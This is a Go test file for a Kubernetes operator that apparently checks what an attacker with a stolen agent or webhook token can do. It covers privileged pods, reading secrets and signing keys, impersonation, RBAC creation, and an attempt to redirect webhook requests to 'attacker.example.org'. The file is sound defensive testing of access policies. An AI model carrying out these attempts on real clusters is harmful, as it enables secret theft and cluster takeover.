package policies

import (
	"fmt"
	"slices"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/krake-observer/krake-observer/pkg/signature"
	"github.com/krake-observer/krake-observer/test/kit"
)

// What an attacker with the token of an agent can do in the default installation, line by line as
// docs/stolen-token.md has it.
func TestWhatAStolenTokenCanDo(t *testing.T) {
	open, guarded, closed := newNamespace(t), newNamespace(t), newNamespace(t)
	server.Kubectl(t, "label", "namespace", guarded, "pod-security.kubernetes.io/enforce=baseline")
	server.Kubectl(t, "label", "namespace", closed, "krake.dev/closed-to-agents=true")
	awaitClosed(t, closed)
	thief := newThief(t, open, guarded, closed)
	var attempts []kit.Attempt
	for _, a := range slices.Concat(thief.can(t), thief.cannot(t)) {
		attempts = append(attempts, kit.Attempt{What: a.what, Try: a.try, Can: a.want})
	}
	kit.Attempts(t, "The default installation", attempts)
}

// thief is a client with the token of agent local, and the targets of the attempts: a namespace without
// and one with Pod Security, and one that is closed to agents.
type thief struct {
	client                kubernetes.Interface
	open, guarded, closed string
}

func newThief(t *testing.T, open, guarded, closed string) thief {
	t.Helper()
	ctx := t.Context()
	for name, edits := range map[string][]func(*metav1.ObjectMeta){
		"ours": {markedMeta}, "ours-too": {markedMeta}, "theirs": nil, "theirs-too": nil,
	} {
		_, err := server.AppsV1().Deployments(open).Create(ctx, deploymentNamed(name, edits...), metav1.CreateOptions{})
		kit.Must(t, err)
	}
	set := &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "network"}, Spec: appsv1.DaemonSetSpec{
		Selector: &metav1.LabelSelector{MatchLabels: webLabels()}, Template: webTemplate(),
	}}
	_, err := server.AppsV1().DaemonSets("kube-system").Create(ctx, set, metav1.CreateOptions{})
	kit.Must(t, err)
	t.Cleanup(func() { server.Kubectl(t, "--namespace", "kube-system", "delete", "daemonset", "network") })
	_, err = server.CoreV1().Secrets(open).Create(ctx, secretNamed("theirs"), metav1.CreateOptions{})
	kit.Must(t, err)
	admitted(t, open)
	t.Cleanup(func() { letGo(t, open) })
	return thief{agent("local").mustClient(t), open, guarded, closed}
}

func webLabels() map[string]string { return map[string]string{"app": "web"} }

func webTemplate() corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{
		ObjectMeta: metav1.ObjectMeta{Labels: webLabels()}, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "web", Image: "web:1"}}},
	}
}

func deploymentNamed(name string, edits ...func(*metav1.ObjectMeta)) *appsv1.Deployment {
	meta := metav1.ObjectMeta{Name: name}
	for _, change := range edits {
		change(&meta)
	}
	return &appsv1.Deployment{ObjectMeta: meta, Spec: appsv1.DeploymentSpec{
		Replicas: new(int32), Selector: &metav1.LabelSelector{MatchLabels: webLabels()}, Template: webTemplate(),
	}}
}

func markedMeta(meta *metav1.ObjectMeta) {
	meta.Labels = map[string]string{"krake.dev/owned-by": "0123456789abcdef"}
	meta.Annotations = map[string]string{"krake.dev/owner": "demo/a x", "krake.dev/owner-uid": "5f0c8a4e-0000-4000-8000-000000000000"}
}

const (
	newImage = `{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"web:2"}]}}}}`
	allMarks = `{"metadata":{"labels":{"krake.dev/owned-by":"x"},"annotations":{"krake.dev/owner":"demo/a x"}}}`
)

// pod creates a Pod.
func (s thief) pod(t *testing.T, namespace, name string, privileged bool, edits ...func(*metav1.ObjectMeta)) error {
	t.Helper()
	template := webTemplate()
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: template.Spec}
	pod.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &privileged}
	if !privileged { // as Pod Security demands at most
		pod.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{
			AllowPrivilegeEscalation: new(false), RunAsNonRoot: new(true), SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
			Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
		}
	}
	pod.Spec.ServiceAccountName = "default"
	for _, change := range edits {
		change(&pod.ObjectMeta)
	}
	kit.EventuallyNil(t, func() error { // a controller makes the account
		return kit.ErrorOf(server.CoreV1().ServiceAccounts(namespace).Get(t.Context(), "default", metav1.GetOptions{}))
	})
	return kit.ErrorOf(s.client.CoreV1().Pods(namespace).Create(t.Context(), pod, metav1.CreateOptions{}))
}

// refusedAs does something that the policy on closed namespaces has to refuse, and nothing else.
func refusedAs(closed string, do func() error) func() error {
	return func() error {
		err := do()
		if got := verdict(err); got != fmt.Sprintf(closedMessage, closed) {
			return fmt.Errorf("refused otherwise: %v", err) //nolint:errorlint // it is no refusal
		}
		return err
	}
}

func (s thief) deployment(t *testing.T, name, patch string) error {
	t.Helper()
	return kit.ErrorOf(s.client.AppsV1().Deployments(s.open).Patch(t.Context(), name, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}))
}

func (s thief) daemonSet(t *testing.T, patch string) error {
	t.Helper()
	return kit.ErrorOf(s.client.AppsV1().DaemonSets("kube-system").Patch(t.Context(), "network", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}))
}

func (s thief) application(t *testing.T, patch string) error {
	t.Helper()
	return kit.ErrorOf(s.client.CoreV1().ConfigMaps(s.open).Patch(t.Context(), "app", types.MergePatchType, []byte(patch), metav1.PatchOptions{}))
}

func (s thief) can(t *testing.T) []attempt {
	t.Helper()
	ctx := t.Context()
	return []attempt{
		{"lists the ConfigMaps of all namespaces", func() error { return kit.ErrorOf(s.client.CoreV1().ConfigMaps("").List(ctx, metav1.ListOptions{})) }, true},
		{"lists the Pods of all namespaces", func() error { return kit.ErrorOf(s.client.CoreV1().Pods("").List(ctx, metav1.ListOptions{})) }, true},
		{"creates a Pod, as a service account of its namespace", func() error { return s.pod(t, s.open, "mine", false, markedMeta) }, true},
		{"creates a privileged Pod, without Pod Security", func() error { return s.pod(t, s.open, "root", true, markedMeta) }, true},
		{"changes a Deployment of an Application", func() error { return s.deployment(t, "ours", newImage) }, true},
		{"deletes a Deployment of an Application", func() error {
			return s.client.AppsV1().Deployments(s.open).Delete(ctx, "ours-too", metav1.DeleteOptions{})
		}, true},
		{"changes a Deployment of another owner", func() error { return s.deployment(t, "theirs", newImage) }, true},
		{"deletes a Deployment of another owner", func() error {
			return s.client.AppsV1().Deployments(s.open).Delete(ctx, "theirs-too", metav1.DeleteOptions{})
		}, true},
		{"adds our marks to a ConfigMap of another owner, and then changes it", func() error {
			cm := create(t, administrator, plain(s.open, "adoptable"))
			_, err := update(t, agent("local"), mustUpdate(t, agent("local"), cm, marked), data("x", "1"))
			return err
		}, true},
		{"writes the status of an Application", func() error { return s.application(t, `{"data":{"status":"{}"}}`) }, true},
	}
}

func (s thief) cannot(t *testing.T) []attempt {
	t.Helper()
	ctx, core := t.Context(), s.client.CoreV1()
	merge := func(resource schema.GroupVersionResource, name, patch string) func() error {
		return func() error {
			client := dynamicClient(t, agent("local"))
			return kit.ErrorOf(client.Resource(resource).Patch(ctx, name, types.MergePatchType, []byte(patch), metav1.PatchOptions{}))
		}
	}
	admission := func(resource string) schema.GroupVersionResource {
		return schema.GroupVersionResource{Group: "admissionregistration.k8s.io", Version: "v1", Resource: resource}
	}
	return []attempt{
		{"creates a privileged Pod where Pod Security enforces baseline", func() error { return s.pod(t, s.guarded, "root", true, markedMeta) }, false},
		{"changes a ConfigMap of another owner", func() error {
			return kit.ErrorOf(update(t, agent("local"), create(t, administrator, plain(s.open, "theirs")), data("x", "1")))
		}, false},
		{"creates a Pod in kube-system", refusedAs("kube-system", func() error { return s.pod(t, "kube-system", "mine", false, markedMeta) }), false},
		{"changes a DaemonSet in kube-system", refusedAs("kube-system", func() error { return s.daemonSet(t, newImage) }), false},
		{"adds our marks to a DaemonSet in kube-system", refusedAs("kube-system", func() error { return s.daemonSet(t, allMarks) }), false},
		{"deletes a DaemonSet in kube-system", refusedAs("kube-system", func() error {
			return s.client.AppsV1().DaemonSets("kube-system").Delete(ctx, "network", metav1.DeleteOptions{})
		}), false},
		{"creates a Pod in a namespace that is closed to agents", refusedAs(s.closed, func() error { return s.pod(t, s.closed, "mine", false, markedMeta) }), false},
		{"creates a Pod in krake-system, where the webhook runs", refusedAs("krake-system", func() error { return s.pod(t, "krake-system", "mine", false, markedMeta) }), false},
		{"reads a Secret", func() error { return kit.ErrorOf(core.Secrets(s.open).Get(ctx, "theirs", metav1.GetOptions{})) }, false},
		{"lists the Secrets of all namespaces", func() error { return kit.ErrorOf(core.Secrets("").List(ctx, metav1.ListOptions{})) }, false},
		{"reads the key that Applications are signed with", func() error {
			return kit.ErrorOf(core.Secrets("krake-system").Get(ctx, signature.PrivateSecret, metav1.GetOptions{}))
		}, false},
		{"changes the public keys", func() error {
			return kit.ErrorOf(core.Secrets("krake-agents").Patch(ctx, signature.PublicSecret, types.MergePatchType, []byte(`{"data": null}`), metav1.PatchOptions{}))
		}, false},
		{"creates a token of a service account", func() error {
			return kit.ErrorOf(core.ServiceAccounts(s.open).CreateToken(ctx, "default", &authenticationv1.TokenRequest{}, metav1.CreateOptions{}))
		}, false},
		{"acts as another user", func() error {
			config, err := agent("local").config(ctx)
			kit.Must(t, err)
			config.Impersonate = rest.ImpersonationConfig{UserName: "anna"}
			client, err := kubernetes.NewForConfig(config)
			kit.Must(t, err)
			return kit.ErrorOf(client.CoreV1().ConfigMaps(s.open).List(ctx, metav1.ListOptions{}))
		}, false},
		{"executes a command in a Pod", func() error {
			return core.RESTClient().Post().Namespace(s.open).Resource("pods").Name("mine").SubResource("exec").Do(ctx).Error()
		}, false},
		{"creates a RoleBinding", func() error {
			return kit.ErrorOf(s.client.RbacV1().RoleBindings(s.open).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "x"}}, metav1.CreateOptions{}))
		}, false},
		{"creates a namespace", func() error {
			return kit.ErrorOf(core.Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "x"}}, metav1.CreateOptions{}))
		}, false},
		{"changes a namespace, and with it its Pod Security", merge(corev1.SchemeGroupVersion.WithResource("namespaces"), s.guarded, `{"metadata":{"labels":null}}`), false},
		{"changes the policies", merge(admission("validatingadmissionpolicies"), "krake-agents-namespaces", `{}`), false},
		{"changes the webhook's configuration", merge(admission("mutatingwebhookconfigurations"), "krake-webhook", `{}`), false},
		{"defines a kind", func() error {
			kind := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition"}}
			resource := schema.GroupVersionResource{Group: "apiextensions.k8s.io", Version: "v1", Resource: "customresourcedefinitions"}
			return kit.ErrorOf(dynamicClient(t, agent("local")).Resource(resource).Create(ctx, kind, metav1.CreateOptions{}))
		}, false},
		{"changes the spec of an Application", func() error { return s.application(t, `{"data":{"spec.manifest":"[1]"}}`) }, false},
		{"creates an Application", func() error {
			return kit.ErrorOf(core.ConfigMaps(s.open).Create(ctx, with(plain(s.open, "new"), annotated, marked), metav1.CreateOptions{}))
		}, false},
		{"deletes an Application", func() error { return core.ConfigMaps(s.open).Delete(ctx, "app", metav1.DeleteOptions{}) }, false},
		{"takes the Lease of another cluster", func() error {
			return kit.ErrorOf(s.client.CoordinationV1().Leases("krake-agents").Create(ctx, lease("krake-cluster-other"), metav1.CreateOptions{}))
		}, false},
	}
}

// What an attacker with the token of the webhook can do, line by line as docs/stolen-token.md has it.
func TestWhatAStolenTokenOfTheWebhookCanDo(t *testing.T) {
	ctx, namespace := t.Context(), newNamespace(t)
	admitted(t, namespace)
	t.Cleanup(func() { letGo(t, namespace) })
	theirSecret(t, namespace)
	webhook := identity{namespace: "krake-system", name: "krake-webhook"}
	client := webhook.mustClient(t)
	core, admission := client.CoreV1(), client.AdmissionregistrationV1()
	withoutRequests(t)
	kit.Attempts(t, "The webhook", []kit.Attempt{
		{What: "reads the keys of its certificates", Can: true, Try: func() error {
			return kit.ErrorOf(core.Secrets("krake-system").Get(ctx, "krake-webhook-certificate", metav1.GetOptions{}))
		}},
		{What: "reads the key that Applications are signed with", Can: true, Try: func() error {
			return kit.ErrorOf(core.Secrets("krake-system").Get(ctx, signature.PrivateSecret, metav1.GetOptions{}))
		}},
		{What: "asks what any user may do", Can: true, Try: func() error {
			return kit.ErrorOf(client.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{
				Spec: authorizationv1.SubjectAccessReviewSpec{User: "anna", ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "get", Resource: "secrets"}},
			}, metav1.CreateOptions{}))
		}},
		{What: "asks whose a token is", Can: true, Try: func() error {
			return kit.ErrorOf(client.AuthenticationV1().TokenReviews().Create(ctx, &authenticationv1.TokenReview{
				Spec: authenticationv1.TokenReviewSpec{Token: "x"},
			}, metav1.CreateOptions{}))
		}},
		{What: "tries with a dry run whether a Pod would be accepted", Can: true, Try: func() error {
			return kit.ErrorOf(core.ConfigMaps(namespace).Create(ctx, plain(namespace, "x"), metav1.CreateOptions{DryRun: dry}))
		}},
		{What: "replaces the CA of its configuration", Can: true, Try: func() error {
			return configure(t, webhook, `[{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "eA=="}]`)
		}},
		{What: "has requests sent to another place", Try: func() error {
			return configure(t, webhook, `[{"op": "remove", "path": "/webhooks/0/clientConfig/service"},
				{"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example.org"}]`)
		}},
		{What: "has requests about other objects sent to it", Try: func() error {
			return configure(t, webhook, `[{"op": "add", "path": "/webhooks/0/rules/0/resources/-", "value": "secrets"}]`)
		}},
		{What: "changes another webhook configuration", Try: func() error {
			return kit.ErrorOf(admission.ValidatingWebhookConfigurations().Patch(ctx, "krake-guard", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{}))
		}},
		{What: "creates a webhook configuration", Try: func() error {
			return kit.ErrorOf(admission.MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "another"},
			}, metav1.CreateOptions{}))
		}},
		{What: "deletes its configuration", Try: func() error {
			return admission.MutatingWebhookConfigurations().Delete(ctx, "krake-webhook", metav1.DeleteOptions{})
		}},
		{What: "changes the policies", Try: func() error {
			return admission.ValidatingAdmissionPolicyBindings().Delete(ctx, "krake-configmaps", metav1.DeleteOptions{})
		}},
		{What: "lists ConfigMaps", Try: func() error { return kit.ErrorOf(core.ConfigMaps("").List(ctx, metav1.ListOptions{})) }},
		{What: "creates an Application", Try: func() error {
			return kit.ErrorOf(core.ConfigMaps(namespace).Create(ctx, with(plain(namespace, "x"), annotated), metav1.CreateOptions{}))
		}},
		{What: "changes an Application", Try: func() error {
			return kit.ErrorOf(core.ConfigMaps(namespace).Patch(ctx, "app", types.MergePatchType, []byte(`{"data": {"spec.manifest": "[1]"}}`), metav1.PatchOptions{}))
		}},
		{What: "deletes an Application", Try: func() error { return core.ConfigMaps(namespace).Delete(ctx, "app", metav1.DeleteOptions{}) }},
		{What: "creates a Deployment", Try: func() error {
			return kit.ErrorOf(client.AppsV1().Deployments(namespace).Create(ctx, deploymentNamed("x"), metav1.CreateOptions{}))
		}},
		{What: "reads another Secret", Try: func() error { return kit.ErrorOf(core.Secrets(namespace).Get(ctx, "theirs", metav1.GetOptions{})) }},
		{What: "lists the Secrets of its namespace", Try: func() error { return kit.ErrorOf(core.Secrets("krake-system").List(ctx, metav1.ListOptions{})) }},
		{What: "creates a token of a service account", Try: func() error {
			return kit.ErrorOf(core.ServiceAccounts("krake-agents").CreateToken(ctx, "local", &authenticationv1.TokenRequest{}, metav1.CreateOptions{}))
		}},
		{What: "acts as an agent", Try: func() error {
			as := webhook
			as.as = "system:serviceaccount:krake-agents:local"
			return kit.ErrorOf(as.mustClient(t).CoreV1().ConfigMaps(namespace).List(ctx, metav1.ListOptions{}))
		}},
		{What: "creates a ClusterRoleBinding", Try: func() error {
			return kit.ErrorOf(client.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "x"}}, metav1.CreateOptions{}))
		}},
	})
}
